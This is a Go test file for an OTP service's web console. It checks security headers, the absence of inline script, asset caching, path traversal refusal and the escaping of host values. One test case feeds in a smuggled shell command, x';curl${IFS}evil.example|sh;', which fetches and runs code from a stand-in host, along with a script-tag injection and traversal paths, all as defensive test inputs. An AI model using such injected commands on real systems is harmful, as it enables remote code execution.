package console_test

import (
	"encoding/json"
	"io/fs"
	"log/slog"
	"net/http"
	"os"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"wabek/internal/console"
)

var pagePaths = []string{"/console/live", "/console/integration", "/console/settings"}

func TestPages_NeedASession(t *testing.T) {
	t.Parallel()
	b := setup(t)
	for _, path := range append([]string{"/", "/console", "/console/", "/console/nothing", "/console/live/x"}, pagePaths...) {
		a := b.visitor().get(path)
		require.Equal(t, []any{http.StatusSeeOther, "/console/sign-in"}, []any{a.status, a.header.Get("Location")}, path)
		require.NotContains(t, a.body, "default", path)
	}
	a := b.visitor().do(http.MethodPost, "/console/api/v1/otp", `{"phone":"`+number+`","purpose":"login"}`)
	require.Equal(t, http.StatusUnauthorized, a.status)
	require.Equal(t, "application/problem+json", a.header.Get("Content-Type"))
	var problem map[string]any
	require.NoError(t, json.Unmarshal([]byte(a.body), &problem))
	require.Equal(t, []any{"signed_out", false, 401.0}, []any{problem["code"], problem["success"], problem["status"]})
	require.Empty(t, b.api.Messages())
}

func TestPages_Roots(t *testing.T) {
	t.Parallel()
	b := setup(t)
	u := b.user()
	for _, path := range []string{"/", "/console", "/console/"} {
		a := u.get(path)
		require.Equal(t, []any{http.StatusSeeOther, "/console/live"}, []any{a.status, a.header.Get("Location")}, path)
	}
	a := u.get("/console/nothing")
	require.Equal(t, http.StatusNotFound, a.status)
	require.Contains(t, a.body, "No such page")
	require.Equal(t, http.StatusMethodNotAllowed, u.do(http.MethodPost, "/console/live", "").status)
}

func TestPages_Headers(t *testing.T) {
	t.Parallel()
	b := setup(t)
	u := b.user()
	all := map[string]answer{
		"a redirect": b.visitor().get("/"), "the sign-in page": b.visitor().get("/console/sign-in"), "a refusal": b.visitor().signIn("wrong"),
		"another site's request": u.form("/console/sign-out", nil, "Sec-Fetch-Site", "cross-site"), "no page": u.get("/console/nothing"),
		"no method": u.do(http.MethodDelete, "/console/live", ""), "an answer of the API": u.do(http.MethodPost, "/console/api/v1/otp", "{}"),
		"no session": b.visitor().get("/console/api/v1/otp/x"),
	}
	for _, path := range pagePaths {
		all[path] = u.get(path)
	}
	for name, a := range all {
		policy := a.header.Get("Content-Security-Policy")
		require.Contains(t, policy, "default-src 'none'", name)
		require.Contains(t, policy, "script-src 'self'; style-src 'self'", name)
		require.Contains(t, policy, "frame-ancestors 'none'", name)
		require.NotContains(t, policy, "unsafe", name)
		require.NotContains(t, policy, "http", name)
		require.Equal(t, "DENY", a.header.Get("X-Frame-Options"), name)
		require.Equal(t, "nosniff", a.header.Get("X-Content-Type-Options"), name)
		require.Equal(t, "same-origin", a.header.Get("Referrer-Policy"), name)
		require.Equal(t, "no-store", a.header.Get("Cache-Control"), name)
	}
}

func TestPages_HaveNothingInlineAndNothingOfOtherHosts(t *testing.T) {
	t.Parallel()
	b := setup(t)
	u := b.user()
	bodies := map[string]string{"sign-in": b.visitor().get("/console/sign-in").body, "failed": b.visitor().signIn("wrong").body}
	for _, path := range pagePaths {
		bodies[path] = u.get(path).body
	}
	inline := regexp.MustCompile(`(?i)<style|<script[^>]*>[^<]|<[^>]*\s(?:on[a-z]+|style)\s*=|<[^>]*javascript:`)
	loads := regexp.MustCompile(`(?i)(?:src|href|action)\s*=\s*"([^"]*)"`)
	for name, body := range bodies {
		require.Empty(t, inline.FindString(body), name)
		require.NotContains(t, body, "ZgotmplZ", name) // html/template's mark for what it couldn't make safe
		require.NotContains(t, body, apiKey, name)
		for _, found := range loads.FindAllStringSubmatch(body, -1) {
			require.Regexp(t, `^(/[^/]|#)`, found[1], name)
		}
	}
	require.NoError(t, fs.WalkDir(os.DirFS("assets"), ".", func(path string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return err
		}
		data, err := os.ReadFile("assets/" + path)
		text := strings.ReplaceAll(string(data), "http://www.w3.org/2000/svg", "")
		require.NotRegexp(t, `https?://|url\(|@import|innerHTML|eval\(`, text, path)
		return err
	}))
}

func TestAssets(t *testing.T) {
	t.Parallel()
	b := setup(t)
	page := b.visitor().get("/console/sign-in").body
	paths := regexp.MustCompile(`/console/assets/[0-9a-f]{16}/[a-z]+\.(?:css|js|svg)`).FindAllString(page, -1)
	require.Len(t, paths, 3, "icon, style, script")
	types := map[string]string{".css": "text/css; charset=utf-8", ".js": "text/javascript; charset=utf-8", ".svg": "image/svg+xml"}
	for _, path := range paths {
		a := b.visitor().get(path)
		require.Equal(t, http.StatusOK, a.status, path)
		require.Equal(t, "public, max-age=31536000, immutable", a.header.Get("Cache-Control"))
		require.Equal(t, types[path[strings.LastIndexByte(path, '.'):]], a.header.Get("Content-Type"))
		old := regexp.MustCompile(`[0-9a-f]{16}`).ReplaceAllString(path, "0123456789abcdef")
		gone := b.visitor().get(old)
		require.Equal(t, http.StatusNotFound, gone.status, "never another version under the same address")
		require.Equal(t, "no-store", gone.header.Get("Cache-Control"))
	}
	folder := paths[0][:strings.LastIndexByte(paths[0], '/')+1]
	for _, name := range []string{"", "nothing.js", "../console.go", "..%2fconsole.go", "../../pages/live.html"} {
		require.NotEqual(t, http.StatusOK, b.visitor().get(folder+name).status, name)
	}
}

func TestIntegration_ShowsThisServersAddress(t *testing.T) {
	t.Parallel()
	for _, c := range []struct {
		name    string
		public  string
		headers []string
		want    string
	}{
		{"the one that was asked for", "", []string{"Host", "otp.internal:8080"}, "http://otp.internal:8080"},
		{"behind a proxy with TLS", "", []string{"Host", "otp.example.com", "X-Forwarded-Proto", "https"}, "https://otp.example.com"},
		{"IPv6", "", []string{"Host", "[::1]:8080"}, "http://[::1]:8080"},
		{"the public one, whatever was asked for", "https://otp.example.com/", []string{"Host", "10.0.0.1:8080"}, "https://otp.example.com"},
		{"never one that a shell would run", "", []string{"Host", "x';curl${IFS}evil.example|sh;'"}, ""},
		{"nor one with markup", "", []string{"Host", "x<script>"}, ""},
	} {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			b := setup(t, func(o *console.Options) { o.PublicURL = c.public })
			want := c.want
			if want == "" {
				want = b.server.URL
			}
			cookie := b.visitor().signIn(b.console.NewSignIn(), c.headers...).cookie()
			// Over a handler of its own: net/http's server refuses some of these hosts itself.
			r := b.visitor().request(http.MethodGet, "/console/integration", "", append(c.headers, "Cookie", cookie)...)
			w := newRecorder()
			b.console.Handler().ServeHTTP(w, r)
			require.Equal(t, http.StatusOK, w.status)
			require.Contains(t, w.body.String(), `<code id="base">`+want+`</code>`)
			require.Contains(t, w.body.String(), "{WABEK_URL:-"+want+"}")
			require.NotContains(t, w.body.String(), "http://127.0.0.1:8080", "the address that stands in the snippet")
			require.NotContains(t, w.body.String(), "evil")
		})
	}
}

func TestSettings_ShowsWhatHoldsNowAndWhereItComesFrom(t *testing.T) {
	t.Parallel()
	length := "6"
	b := setup(t, func(o *console.Options) {
		o.Settings = func() []console.Group {
			return []console.Group{{Title: "Code", Settings: []console.Setting{
				{Name: "Length", Value: length, Unit: "digits", Source: console.FromEnvironment, From: "OTP_LENGTH", Doc: "<i>How</i> long."},
				{Name: "Attempts", Value: "5", Source: console.FromApp, From: "attempts"},
				{Name: "Expiry", Value: "10", Source: console.FromDefault, From: "OTP_EXPIRY_MINUTES"},
				{Name: "Once", Value: "yes", Source: console.Fixed},
			}}}
		}
	})
	u := b.user()
	body := u.get("/console/settings").body
	for _, want := range []string{
		"<strong>6</strong>", "environment", "OTP_LENGTH", "&lt;i&gt;How&lt;/i&gt; long.", "app setting", "<code>attempts</code>",
		`<span class="pill">default</span><code>OTP_EXPIRY_MINUTES</code>`, `<span class="pill">always</span>`,
	} {
		require.Contains(t, body, want)
	}
	length = "8"
	require.Contains(t, u.get("/console/settings").body, "<strong>8</strong>")
}

func TestNew_NamesTheOptionThatIsWrong(t *testing.T) {
	t.Parallel()
	good := console.Options{
		API: http.NotFoundHandler(), Settings: someSettings, URL: "http://127.0.0.1:8080", Now: time.Now, Logger: slog.New(slog.DiscardHandler),
	}
	_, err := console.New(good)
	require.NoError(t, err)
	for _, c := range []struct {
		name   string
		change func(*console.Options)
		want   string
	}{
		{"no API", func(o *console.Options) { o.API = nil }, "an option is missing"},
		{"no URL", func(o *console.Options) { o.URL = "" }, "URL: it must begin with http:// or https://"},
		{"a public URL without a scheme", func(o *console.Options) { o.PublicURL = "otp.example.com" }, "PublicURL: it must begin with http:// or https://"},
		{"a public URL without a host", func(o *console.Options) { o.PublicURL = "https:///x" }, "PublicURL: it must name a host"},
		{"a public URL with a path", func(o *console.Options) { o.PublicURL = "https://example.com/otp" }, "PublicURL: it must end behind the host"},
		{"a public URL with a user", func(o *console.Options) { o.PublicURL = "https://a:b@example.com" }, "PublicURL: it must name a host"},
	} {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			o := good
			c.change(&o)
			_, err := console.New(o)
			require.ErrorContains(t, err, c.want)
		})
	}
}

// recorder keeps an answer.
type recorder struct {
	header http.Header
	status int
	body   strings.Builder
}

func newRecorder() *recorder { return &recorder{header: http.Header{}, status: http.StatusOK} }

func (r *recorder) Header() http.Header         { return r.header }
func (r *recorder) WriteHeader(status int)      { r.status = status }
func (r *recorder) Write(p []byte) (int, error) { return r.body.Write(p) }
